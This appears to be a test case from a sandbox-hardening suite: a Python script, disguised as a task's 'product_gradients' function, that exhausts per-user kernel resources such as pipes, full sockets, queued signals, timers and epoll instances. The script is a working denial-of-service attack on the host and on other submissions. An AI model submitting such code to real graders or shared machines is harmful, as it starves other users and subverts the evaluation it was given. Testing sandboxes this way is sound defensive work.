# attack: hoard what the kernel counts per user: pipes, epoll watches, timers, queued signals, full sockets, eventfds
# asset: machine, time of others, other submissions
# channel: kernel
# beats otter: no
# expect: not_implemented,timed_out,crashed,raised,out_of_memory
# place: after
import ctypes
import fcntl
import os
import select
import signal
import socket

libc = ctypes.CDLL(None, use_errno=True)


def hoard(make, most=100_000):
    kept = []
    try:
        for _ in range(most):
            kept.append(make())
    except (OSError, ValueError):
        pass
    return kept


def large_pipe():
    reading, writing = os.pipe()
    fcntl.fcntl(writing, 1031, 1 << 20)
    os.set_blocking(writing, False)
    return reading, writing, os.write(writing, bytes(1 << 20))


def full_socket():
    pair = socket.socketpair()
    pair[0].setblocking(False)
    pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    while True:
        try:
            pair[0].send(bytes(1 << 16))
        except BlockingIOError:
            return pair


def queued_signal():
    if libc.sigqueue(os.getpid(), 40, None) != 0:
        raise OSError


def timer():
    if libc.timer_create(1, None, ctypes.byref(ctypes.c_void_p())) != 0:
        raise OSError


def attack(*args):
    signal.pthread_sigmask(signal.SIG_BLOCK, [40])
    hoard(queued_signal)
    hoard(timer)
    kept = hoard(large_pipe, 40) + hoard(full_socket, 30) + hoard(select.epoll, 40)
    if len(hoard(os.pipe)) > 2000:
        raise RuntimeError("ESCAPED: thousands of descriptors")
    raise NotImplementedError


product_gradients = attack
